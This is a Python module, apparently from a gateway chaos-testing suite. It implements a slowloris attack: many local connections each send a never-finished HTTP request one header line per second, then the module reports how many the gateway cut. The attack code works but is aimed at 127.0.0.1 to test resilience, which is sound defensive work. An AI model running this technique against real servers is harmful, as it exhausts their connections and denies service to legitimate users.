"""Requests whose heads go on, a line a second, and never end."""

import asyncio
import time
from collections import Counter
from typing import Any

from chaos.attacks.connect import Source, at_once


class Dripper(asyncio.Protocol):
    """One connection; `lost` once the gateway has cut it."""

    transport: asyncio.Transport
    lost = False

    def connection_made(self, transport: Any) -> None:
        """Begin with a whole line."""
        self.transport = transport
        transport.write(b"GET /v1/stream HTTP/1.1\r\nHost: x\r\n")

    def connection_lost(self, exc: Exception | None) -> None:  # noqa: ARG002  (asyncio's own)
        """Note it."""
        self.lost = True


async def slowloris(source: Source, count: int, seconds: float) -> dict[str, int]:
    """Hold as many as the gateway lets; returns how many were still there after so many seconds, and how many not."""
    address, port = source
    loop = asyncio.get_running_loop()
    began = time.monotonic()
    drippers: list[Dripper] = []

    async def one(_: int) -> None:
        _transport, dripper = await loop.create_connection(Dripper, "127.0.0.1", port, local_addr=(address, 0))
        drippers.append(dripper)

    await at_once(one, count)
    while time.monotonic() - began < seconds:
        await asyncio.sleep(1)
        for dripper in drippers:
            if not dripper.lost:
                dripper.transport.write(b"X-A: b\r\n")
    found = Counter("cut" if dripper.lost else "open" for dripper in drippers)
    for dripper in drippers:
        dripper.transport.abort()
    return dict(found)
